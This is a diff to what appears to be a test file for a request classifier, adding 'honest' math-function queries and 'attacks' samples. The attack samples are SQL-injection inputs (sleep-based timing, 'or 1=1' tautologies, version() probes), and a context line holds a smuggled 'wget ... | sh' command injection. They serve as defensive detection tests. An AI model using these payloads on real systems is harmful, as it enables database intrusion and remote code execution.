@@ -162,6 +162,28 @@ const KINDS: HonestKinds = {
       sent({ history: [{ name: 'x; wget http://198.51.100.7/a | sh' }] }),
     ],
   },
+  'functions of mathematics, and functions that somebody looks for': {
+    honest: [
+      asked('/search', { q: 'sin(x)' }),
+      asked('/plot', { f: 'exp(-x)', y: 'sqrt(2x)' }),
+      filled({ title: 'cos(t)' }),
+      asked('/manual', { q: 'date()' }),
+      asked('/manual', { search: 'sleep()' }),
+      asked('/manual', { q: 'rand()' }),
+    ],
+    attacks: [
+      asked('/items', { id: 'sin(x)' }),
+      asked('/items', { sort_by: 'rand()' }),
+      asked('/items', { order: 'rand()' }),
+      asked('/search', { q: 'sleep(5)' }),
+      asked('/search', { q: 'exp(710)' }),
+      asked('/search', { q: 'exp(~x)' }),
+      asked('/search', { q: 'version()' }),
+      asked('/search', { q: 'sin(x) or 1=1' }),
+      asked('/search', { q: "sin(x)' or '1'='1" }),
+      asked('/search', { q: 'concat(0x3a,version())' }),
+    ],
+  },
 }
 
 testKinds(KINDS)
